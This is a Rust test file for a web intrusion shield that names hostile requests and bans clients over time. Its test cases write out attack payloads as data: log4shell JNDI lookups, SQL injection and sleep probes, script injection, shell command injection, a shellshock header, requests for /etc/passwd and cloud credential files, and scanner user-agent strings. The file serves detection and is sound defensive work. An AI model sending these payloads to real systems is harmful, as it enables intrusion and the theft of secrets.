//! The shield without sockets: what the list finds and what it leaves alone, and bans over time.

use std::collections::HashSet;

use munjigi_foundation::clock::Timestamp;

use super::ban::Client;
use super::find::{self, Own, Request};
use super::judge::{Noted, Part, Room, Rules, Seen, Standing};
use super::signal::{Marks, Signal};
use super::table::{Bounds, Table};

pub(super) const BROWSER: &[u8] =
    b"Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
const START: i64 = 1_795_000_000_000;

pub(super) fn at(millis: i64) -> Timestamp {
    Timestamp::from_millis(START + millis)
}

pub(super) fn client(address: &str) -> Client {
    address.parse().unwrap()
}

fn marks(method: &str, target: &str, agent: &[u8], status: u16) -> Marks {
    let request = Request {
        method: method.as_bytes(),
        target: target.as_bytes(),
        agent: Some(agent),
        head: b"",
        status,
    };
    find::signals(&request)
}

fn names(marks: Marks) -> Vec<&'static str> {
    marks.iter().map(Signal::code).collect()
}

#[test]
fn the_whole_list_can_be_compiled() {
    find::check_list();
}

#[track_caller]
fn check(target: &str, status: u16, expected: &[&str]) {
    let named = names(marks("GET", target, BROWSER, status));
    assert_eq!(named, expected, "{target}");
}

#[test]
fn hostile_paths_are_named() {
    check("/index.php", 404, &["script_probe"]);
    check("/a/B.ASPX;x=1", 404, &["script_probe"]);
    check("/x%2ephp/more", 404, &["script_probe"]);
    check("/index.php", 200, &[]);
    check("/index.php", 503, &[]);
    check("/wp-login.php", 404, &["script_probe", "admin_probe"]);
    check("/phpMyAdmin/", 404, &["admin_probe"]);
    check("/manager/html", 404, &["admin_probe"]);
    check("/manager", 404, &[]);
    check("/.git/HEAD", 404, &["dot_file"]);
    check("/a/.svn/", 403, &["dot_file"]);
    check("/.env", 200, &["secret_file"]);
    check("/.env", 404, &["secret_file", "dot_file"]);
    check("/%2eenv", 404, &["secret_file", "dot_file"]);
    check("/api/.aws/credentials", 404, &["secret_file", "dot_file"]);
    check("/.well-known/acme-challenge/x", 404, &[]);
    check("/site.tar.bak", 404, &["leftover_file"]);
    check("/index.html~", 404, &["leftover_file"]);
    check("/dump.sql", 404, &["leftover_file"]);
    check("/../../etc/passwd", 404, &["traversal"]);
    check(
        "/%2e%2e/%2e%2e/etc/passwd",
        404,
        &["traversal", "encoded_trick"],
    );
    check("/..%2f..%2fx", 404, &["traversal", "encoded_trick"]);
    check("/..%5c..%5cx", 400, &["traversal", "encoded_trick"]);
    check("/a/%252e%252e/x", 404, &["encoded_trick"]);
    check("/..%c0%af..%c0%afetc", 404, &["dot_file", "encoded_trick"]);
    check("/a%00.png", 200, &["encoded_trick"]);
    check("/a?f=../../../../x", 200, &["traversal"]);
    check("/a?f=/etc/passwd", 200, &["traversal"]);
    check(
        "/a?f=C:%5cwindows%5csystem32%5ccmd.exe",
        200,
        &["traversal"],
    );
}

#[test]
fn hostile_queries_are_named() {
    check("/?x=${jndi:ldap://a.b/c}", 200, &["log4shell"]);
    check("/?x=$%7B$%7Blower:j%7Dndi:x%7D", 200, &["log4shell"]);
    check("/?x=%24%7b%24%7b%3a%3a-j%7dndi%3ax%7d", 200, &["log4shell"]);
    check(
        "/?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--%20-",
        200,
        &["sql_injection"],
    );
    check("/?id=1+AND+5347=5347", 200, &["sql_injection"]);
    check("/?id=1%27%20OR%20%271%27=%271", 200, &["sql_injection"]);
    check("/?id=1;SELECT/**/PG_SLEEP(5)--", 200, &["sql_injection"]);
    check("/?id=1%2527%2520or%25201%253d1", 200, &["sql_injection"]);
    check("/?q=<script>alert(1)</script>", 200, &["script_injection"]);
    check(
        "/?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
        200,
        &["script_injection"],
    );
    check("/?q=%253Cscript%253E", 200, &["script_injection"]);
    check("/?c=;cat%20/etc/hosts", 200, &["code_injection"]);
    check("/?c=$(id)", 200, &["code_injection"]);
    check("/?x={{7*7}}", 200, &["code_injection"]);
    check(
        "/?f=php://filter/convert.base64-encode/resource=x",
        200,
        &["code_injection"],
    );
    check(
        "/?u=http://169.254.169.254/latest",
        200,
        &["code_injection"],
    );
    check(
        "/?_SERVER[x]=http://cirt.net/rfiinc.txt?",
        200,
        &["code_injection"],
    );
}

#[test]
fn what_people_and_programs_ask_for_is_left_alone() {
    for target in [
        "/",
        "/api/jobs/01JD3ZK5T1M8Q4V0X6Y7N2B9CE/events",
        "/analysis?serverId=143&eventId=01J&name=a.zip",
        "/app.1f3c.js",
        "/search?q=union+square+hotels",
        "/search?q=select+a+seat+from+the+map",
        "/search?q=java+%26+python+3",
        "/search?q=it%27s+or+that%27s",
        "/search?q=%22linux%22+and+kernel+in+2024",
        "/search?q=%22%23hashtag%22",
        "/search?q=how+to+write+a+powershell+script",
        "/search?q=/etc/nginx/nginx.conf",
        "/search?q=drop+table+lamps",
        "/rest?jql=project+%3D+X+AND+%22Epic+Link%22+%3D+%22X-1%22",
        "/odata?$filter=Price+gt+20+and+Name+eq+%27Milk%27&$orderby=Price",
        "/geo?bbox=1,2,3,4&when=2026-11-21T10:00:00Z",
        "/%EA%B2%80%EC%83%89?q=%EB%B3%B4%EC%95%88",
        "/old?q=%B0%CB%BB%F6%C0%AF",
        "/redirect?to=https%253A%252F%252Fexample.com%252Fa%253Fb%253Dc",
        "/img?url=https://cdn.example.com/a.jpg?w=100",
        "/file?name=../logo.png",
        "/a/../b",
        "/../images/logo.png",
        "/w/index?title=A:B&oldid=(1)&x[]=1&y[a]=2",
        "/data?fields=name|id|type|cat|dog",
        "/jwt?x=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.sig-_~",
        "/maps/@37.5,127.0,15z/data=!3m1!4b1",
        "/~kim/paper.pdf",
        "/.well-known/security.txt",
    ] {
        for status in [200, 304] {
            let found = marks("GET", target, BROWSER, status);
            assert!(found.is_empty(), "{target}: {:?}", names(found));
        }
    }
    for target in [
        "/about",
        "/admin",
        "/login",
        "/feed",
        "/vendor/app.js",
        "/wp-content/a.jpg",
        "/a.key",
        "/b.ini",
    ] {
        let found = marks("GET", target, BROWSER, 404);
        assert!(found.is_empty(), "{target}: {:?}", names(found));
    }
}

#[test]
fn scanners_name_themselves_and_honest_programs_do_not() {
    let hostile: [&[u8]; 9] = [
        b"sqlmap/1.7.2#stable (https://sqlmap.org)",
        b"gobuster/3.5",
        b"Fuzz Faster U Fool v2.0.0-dev",
        b"Wfuzz/3.1.0",
        b"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        b"Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:map_codes)",
        b"masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
        b"Mozilla/5.0 zgrab/0.x",
        b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    ];
    for agent in hostile {
        assert_eq!(names(marks("GET", "/", agent, 200)), ["scanner_agent"]);
    }
    let dirb = b"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)";
    assert_eq!(names(marks("GET", "/x", dirb, 404)), ["scanner_agent"]);
    assert!(marks("GET", "/", dirb, 200).is_empty());
    let honest: [&[u8]; 10] = [
        BROWSER,
        b"curl/8.9.1",
        b"Wget/1.24",
        b"python-requests/2.32",
        b"Go-http-client/2.0",
        b"tus-js-client",
        b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        b"Mozilla/5.0 (compatible; Yeti/1.1; +https://naver.me/spd)",
        b"kube-probe/1.30",
        b"",
    ];
    for agent in honest {
        assert!(marks("GET", "/x", agent, 404).is_empty());
    }
    assert!(find::is_crawler(honest[6]) && !find::is_crawler(BROWSER) && !find::is_crawler(b"bot"));
}

#[test]
fn methods_fields_and_own_rules() {
    assert_eq!(names(marks("TRACE", "/", BROWSER, 405)), ["bad_method"]);
    assert_eq!(names(marks("XYZZY", "/", BROWSER, 405)), ["bad_method"]);
    for (method, status) in [
        ("PROPFIND", 405),
        ("XYZZY", 200),
        ("DELETE", 404),
        ("PURGE", 403),
    ] {
        assert!(marks(method, "/", BROWSER, status).is_empty(), "{method}");
    }
    let with = |head: &[u8], own: &Own| {
        let request = Request {
            method: b"GET",
            target: b"/hidden?a=secret-word",
            agent: Some(b"EvilBot/1"),
            head,
            status: 200,
        };
        names(find::marks(&request, own))
    };
    let none = Own::default();
    assert_eq!(
        with(b"X-Api-Version: ${jndi:ldap://x}\r\n", &none),
        ["log4shell"]
    );
    assert_eq!(
        with(b"Referer: ${${env:A:-j}ndi:x}\r\n", &none),
        ["log4shell"]
    );
    assert_eq!(
        with(b"User-Agent: () { :;}; /bin/x\r\n", &none),
        ["code_injection"]
    );
    assert!(with(b"Cookie: price=$5; a=${x}\r\n", &none).is_empty());
    let own = Own::new(&["evilbot".to_owned()], &["secret-w.rd".to_owned()]).unwrap();
    assert_eq!(with(b"", &own), ["scanner_agent", "code_injection"]);
    assert!(Own::new(&[], &["(".to_owned()]).is_err());
}

#[test]
fn paths_of_one_kind_are_one() {
    let same = |left: &str, right: &str| {
        assert_eq!(
            find::missing_shape(left.as_bytes()),
            find::missing_shape(right.as_bytes()),
            "{left} {right}"
        );
    };
    same("/api/jobs/01JD3ZK5T1M8Q4V0X6Y7N2B9CE", "/api/jobs/7");
    same("/img/kim.png", "/img/lee.png");
    same("/a//b", "/A/b");
    let other = find::missing_shape(b"/about");
    assert_ne!(other, find::missing_shape(b"/contact"));
    for target in [
        "/favicon.ico",
        "/robots.txt",
        "/apple-touch-icon-120x120.png",
        "/.well-known/x",
        "/sitemap_index.xml",
    ] {
        assert_eq!(find::missing_shape(target.as_bytes()), None, "{target}");
    }
}

/// A part of the table with what simulations need.
struct World {
    part: Part,
    rules: Rules,
    room: Room,
}

impl World {
    fn new() -> Self {
        Self {
            part: Part::default(),
            rules: Rules::default(),
            room: Room {
                suspects: 1_000,
                bans: 1_000,
            },
        }
    }

    fn note(&mut self, who: &str, seen: Seen<'_>, millis: i64) -> Noted {
        self.part
            .note(client(who), seen, (&self.rules, self.room), at(millis))
    }

    /// A request of a browser with its answer, as the gate would judge it; true when it bans.
    fn ask(&mut self, who: &str, agent: &[u8], target: &str, status: u16, millis: i64) -> bool {
        let seen = seen(agent, target, status);
        self.note(who, seen, millis).ban.is_some()
    }

    fn look(&mut self, who: &str, millis: i64) -> Standing {
        self.part.look(client(who), true, at(millis))
    }
}

pub(super) fn seen<'t>(agent: &[u8], target: &'t str, status: u16) -> Seen<'t> {
    let path = target.split('?').next().unwrap().as_bytes();
    Seen {
        marks: marks("GET", target, agent, status),
        target: target.as_bytes(),
        good: status < 400,
        missing: (status == 404).then(|| find::missing_shape(path)).flatten(),
        crawler: find::is_crawler(agent),
    }
}

fn denied(target: &str) -> Seen<'_> {
    Seen {
        marks: [Signal::DeniedPath].into_iter().collect(),
        target: target.as_bytes(),
        good: false,
        missing: None,
        crawler: false,
    }
}

#[test]
fn the_request_that_fills_the_measure_bans_and_bans_grow() {
    let mut world = World::new();
    let who = "192.0.2.1";
    let mut now = 0;
    for expected_hours in [1, 2, 4] {
        for step in 0..5 {
            assert_ne!(world.look(who, now), Standing::Banned(at(now)));
            let noted = world.note(who, denied("/x.php?token=1"), now);
            assert_eq!(noted.ban.is_some(), step == 4, "{step}");
            if let Some(ban) = noted.ban {
                assert_eq!(ban.until, at(now + expected_hours * 3_600_000));
                assert_eq!((ban.count, ban.first_path.as_str()), (5, "/x.php"));
                assert_eq!(ban.reason(), "denied_path 5");
            }
            now += 1_000;
        }
        assert!(matches!(world.look(who, now), Standing::Banned(_)));
        let counted: Vec<u64> = world.part.bans().map(|ban| ban.count).collect();
        assert_eq!(counted, [6], "a refused request counts, too");
        now += expected_hours * 3_600_000;
        assert_eq!(world.look(who, now), Standing::Clean);
    }
    // Three days later the last ban's offences are forgotten.
    now += 4 * 86_400_000;
    for _ in 0..4 {
        world.note(who, denied("/x.php"), now);
    }
    let ban = world.note(who, denied("/x.php"), now).ban.unwrap();
    assert_eq!((ban.offences, ban.until), (1, at(now + 3_600_000)));
}

#[test]
fn signals_count_for_as_long_as_the_window_and_not_longer() {
    let mut world = World::new();
    for step in 0..40 {
        let noted = world.note("192.0.2.1", denied("/x"), step * 15_001);
        assert!(noted.ban.is_none(), "four in a minute are too few");
    }
    for step in 0..4 {
        assert!(world.note("192.0.2.2", denied("/x"), step).ban.is_none());
    }
    assert!(
        world.note("192.0.2.2", denied("/x"), 60_003).ban.is_none(),
        "the first four are over"
    );
    assert!(
        world.note("192.0.2.3", denied("/x"), 60_000).ban.is_none(),
        "others do not share the account"
    );
}

#[test]
fn a_dry_run_bans_nobody_and_says_so_once() {
    let mut world = World::new();
    world.rules.dry_run = true;
    let bans = (0..50)
        .filter(|step| world.note("192.0.2.1", denied("/x"), *step).ban.is_some())
        .count();
    assert_eq!(bans, 1);
    assert!(!matches!(world.look("192.0.2.1", 60), Standing::Banned(_)));
}

#[test]
fn many_addresses_take_no_more_room_than_there_is() {
    let table = Table::default();
    let rules = Rules::default();
    let bounds = Bounds {
        clients: 1_000,
        bans: 1_000,
    };
    for number in 0..30_000_u32 {
        let address = std::net::IpAddr::from(number.to_be_bytes());
        // Each third address is banned at once.
        let mut heavy = denied("/x");
        if number % 3 == 0 {
            heavy.marks = [Signal::SecretFile].into_iter().collect();
            let noted = table.note(Client::of(address), heavy, (&rules, bounds), at(0));
            assert!(noted.ban.is_none());
        }
        table.note(Client::of(address), heavy, (&rules, bounds), at(0));
    }
    let (suspects, bans) = table.counts();
    assert!(suspects <= 1_024 && bans <= 1_024, "{suspects} {bans}");
    assert!(bans > 900, "{bans}");
    let now = || at(1);
    let last = Client::of(std::net::IpAddr::from(29_997_u32.to_be_bytes()));
    assert!(
        matches!(table.look(last, false, now), Standing::Banned(_)),
        "the newest is there"
    );
    // Once all of it is over, the table is empty again and costs nothing.
    table.sweep(&rules, at(3 * 86_400_000));
    assert_eq!(table.counts(), (0, 0));
    assert!(table.is_empty());
}

#[test]
fn seeded_clients_keep_the_table_consistent() {
    let mut state = 0x5eed_u64;
    let mut random = move |below: u64| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) % below
    };
    let table = Table::default();
    let rules = Rules::default();
    let bounds = Bounds {
        clients: 640,
        bans: 640,
    };
    let mut now = 0;
    for step in 0..60_000 {
        now += i64::try_from(random(2_000)).unwrap();
        let number = u32::try_from(random(2_000)).unwrap();
        let who = Client::of(std::net::IpAddr::from(number.to_be_bytes()));
        match random(100) {
            0 => drop(table.pardon(who)),
            1 => drop(table.sweep(&rules, at(now))),
            kind => {
                let before = table.look(who, false, || at(now));
                let mut seen = denied("/x");
                if kind < 30 {
                    (seen.marks, seen.good) = (Marks::NONE, true);
                }
                let noted = table.note(who, seen, (&rules, bounds), at(now));
                if let Some(ban) = noted.ban {
                    assert!(
                        !matches!(before, Standing::Banned(_)),
                        "nobody is banned twice"
                    );
                    let length = ban.until.since(ban.since);
                    assert!(length >= rules.terms.first && length <= rules.terms.most);
                    assert!(matches!(
                        table.look(who, false, || at(now)),
                        Standing::Banned(_)
                    ));
                }
            }
        }
        if step % 97 != 0 {
            continue;
        }
        let (suspects, bans) = table.counts();
        assert!(suspects <= 640 && bans <= 640);
        assert_eq!(table.is_empty(), suspects + bans == 0);
        let listed = table.bans(at(now));
        let different: HashSet<_> = listed.iter().map(|ban| ban.address).collect();
        assert_eq!(different.len(), listed.len());
    }
}

/// Requests of a scanner, one at a time; the place of the first that is refused, counted from the
/// first hostile one.
fn refused_after(agent: &[u8], targets: &[&str]) -> Option<usize> {
    let mut world = World::new();
    let mut first = None;
    for (place, target) in targets.iter().enumerate() {
        let millis = i64::try_from(place).unwrap() * 100;
        if matches!(world.look("192.0.2.1", millis), Standing::Banned(_)) {
            return Some(place - first.unwrap());
        }
        let seen = seen(agent, target, 404);
        if !seen.marks.is_empty() {
            first.get_or_insert(place);
        }
        world.note("192.0.2.1", seen, millis);
    }
    None
}

#[test]
fn scanners_that_hide_behind_a_browsers_name_are_banned_by_their_sixth_request() {
    let dirb = [
        "/.bash_history",
        "/.bashrc",
        "/.cache",
        "/.config",
        "/.cvs",
        "/.git/HEAD",
        "/.history",
        "/.hta",
    ];
    let php = [
        "/index.php",
        "/login.php",
        "/admin.php",
        "/config.php",
        "/info.php",
        "/test.php",
        "/a.php",
    ];
    let mixed = [
        "/wp-admin/",
        "/about",
        "/phpmyadmin/",
        "/blog",
        "/cgi-bin/test.cgi",
        "/backup.sql",
        "/x",
        "/y",
    ];
    let sqlmap = [
        "/?id=1",
        "/?id=1%27%20AND%201=1--%20a",
        "/?id=1)%20AND%202=3",
        "/?id=1%20UNION%20SELECT%20NULL--",
        "/?id=(SELECT%20CHAR(113))",
        "/?id=1;SELECT%20SLEEP(5)",
        "/?id=1",
        "/?id=1",
        "/?id=1",
    ];
    for targets in [&dirb[..], &php, &mixed, &sqlmap] {
        let after = refused_after(BROWSER, targets).unwrap();
        assert!(after <= 6, "{targets:?}: {after}");
    }
}

#[test]
fn who_searches_for_words_that_are_not_there_is_banned_in_the_end() {
    let mut world = World::new();
    let letters = b"abcdefghijklmnopqrstuvwxyz";
    let word = |number: usize| {
        let letter = |place: usize| char::from(letters[number / place % 26]);
        format!("/{}{}{}", letter(1), letter(26), letter(676))
    };
    let banned = (0..100).position(|number: usize| {
        let millis = i64::try_from(number).unwrap() * 100;
        world.ask("192.0.2.1", BROWSER, &word(number), 404, millis)
    });
    assert_eq!(banned, Some(24), "twenty are free, then five count");
}

#[test]
fn further_signals_of_a_request_count_by_half() {
    let weight = |target: &str, status: u16| {
        let mut world = World::new();
        world
            .note("192.0.2.1", seen(BROWSER, target, status), 0)
            .weight
    };
    assert_eq!(weight("/.git/HEAD", 404), 2_000);
    assert_eq!(weight("/.env", 404), 3_000 + 1_000);
    assert_eq!(weight("/wp-login.php", 404), 1_500, "weak ones add nothing");
    assert_eq!(weight("/wp-login.php.bak", 404), 2_000);
    // How sqlmap looks for a firewall: SQL, markup, a command and a path at once.
    let all = "/?a=1%20UNION%20SELECT%20'<script>'%20;cat%20../../../etc/passwd";
    assert_eq!(weight(all, 200), 2_500 + 3_000);
    assert!(World::new().ask("192.0.2.1", BROWSER, all, 200, 0));
}

#[test]
fn typing_a_search_counts_once() {
    let mut world = World::new();
    let text = "/search?q=how+to+use+sleep(10)+in+a+query+of+sql";
    for (step, end) in (10..=text.len()).enumerate() {
        let millis = i64::try_from(step).unwrap() * 200;
        let (typed, _) = text.split_at(end);
        let banned = world.ask("192.0.2.1", BROWSER, typed, 200, millis);
        assert!(!banned, "{typed}");
    }
}
